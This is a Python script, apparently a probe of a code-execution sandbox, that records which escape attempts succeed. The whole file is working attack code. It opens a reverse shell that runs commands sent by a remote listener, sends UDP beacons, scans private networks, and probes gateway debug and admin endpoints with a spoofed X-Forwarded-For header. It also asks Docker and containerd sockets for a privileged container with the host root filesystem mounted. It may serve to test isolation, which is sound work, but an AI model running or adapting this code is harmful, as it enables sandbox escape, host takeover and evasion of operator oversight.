"""What was done to a service that ran people's code with the network left open and a debug console within reach. Arguments: the
addresses of a listener as `host:port`, then `gateway=host:port`, then `word=<what the listener must hear>`. Lines `step = result`;
`reached` is the word for harm."""
import glob
import http.client
import json
import os
import socket
import subprocess
import sys

word = next(it[5:] for it in sys.argv[1:] if it.startswith("word="))
gateways = [it[8:] for it in sys.argv[1:] if it.startswith("gateway=")]
listeners = [it for it in sys.argv[1:] if "=" not in it]


def split(address):
    host, _, port = address.rpartition(":")
    return host.strip("[]"), int(port)


def attempt(step, action):
    try:
        result = action()
    except Exception as error:
        result = f"failed: {type(error).__name__}: {error}"
    print(f"{step} = {str(result).replace(chr(10), ' ')}", flush=True)


def reverse_shell(address):
    with socket.create_connection(split(address), timeout=2) as link:
        link.sendall(word.encode() + b"\n")
        order = link.recv(100).decode().strip()
        # The listener says what to run; what it prints goes back to it, as in a shell.
        shell = subprocess.run([sys.executable, "-c", order], capture_output=True, timeout=5)
        link.sendall(shell.stdout)
    return "reached"


def get(address, path="/"):
    host, port = split(address)
    connection = http.client.HTTPConnection(host, port, timeout=2)
    connection.request("GET", path, headers={"X-Forwarded-For": "127.0.0.1"})
    return f"reached {connection.getresponse().status}"


def udp(address):
    host, port = split(address)
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as link:
        link.sendto(word.encode(), (host, port))
    return "reached"


for address in listeners:
    attempt(f"reverse shell {address}", lambda: reverse_shell(address))
    attempt(f"datagram {address}", lambda: udp(address))
for number in (1, 2, 3, 10, 254):
    for net in ("172.17.0", "172.18.0", "10.0.0", "192.168.0", "192.0.2"):
        attempt(f"neighbour {net}.{number}", lambda: f"reached {socket.gethostbyaddr(f'{net}.{number}')[0]}")
for address in gateways:
    for path in ("/", "/healthz", "/console", "/_debug", "/__debug__/", "/debug/pprof/", "/admin", "/json/version"):
        attempt(f"gateway {address}{path}", lambda: get(address, path))
for port in (9229, 5678, 5005, 8000, 8080, 8888):
    for host in ("127.0.0.1", "172.17.0.1", "host.docker.internal"):
        attempt(f"console {host}:{port}", lambda: get(f"{host}:{port}", "/json/version"))


def engine(path):
    link = socket.socket(socket.AF_UNIX)
    link.settimeout(2)
    link.connect(path)
    body = json.dumps({"Image": "debian", "HostConfig": {"Privileged": True, "Binds": ["/:/host"]}})
    link.sendall(f"POST /containers/create HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n{body}".encode())
    return f"reached {link.recv(100)}"


sockets = ["/var/run/docker.sock", "/run/docker.sock", "/run/sandglass/engine.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock", "/run/crio/crio.sock"]
for path in sockets + glob.glob("/run/**/*.sock", recursive=True) + glob.glob("/tmp/**/*.sock", recursive=True):
    attempt(f"engine {path}", lambda: engine(path))
for port in (2375, 2376):
    for host in ("127.0.0.1", "172.17.0.1", *{split(it)[0] for it in listeners}):
        attempt(f"engine tcp {host}:{port}", lambda: get(f"{host}:{port}" if ":" not in host else f"[{host}]:{port}", "/version"))
for tool in ("docker", "podman", "runc", "crun", "ctr", "runsc", "unshare", "nsenter"):
    attempt(f"privileged container by {tool}", lambda: f"reached {subprocess.run([tool, 'run', '--privileged', 'debian'], capture_output=True, timeout=5).returncode}")


def privileged():
    os.unshare(os.CLONE_NEWUSER | os.CLONE_NEWNS | os.CLONE_NEWPID)
    return "reached: a namespace of its own"


if hasattr(os, "unshare"):
    attempt("privileged container by hand", privileged)
print("end = tried", flush=True)
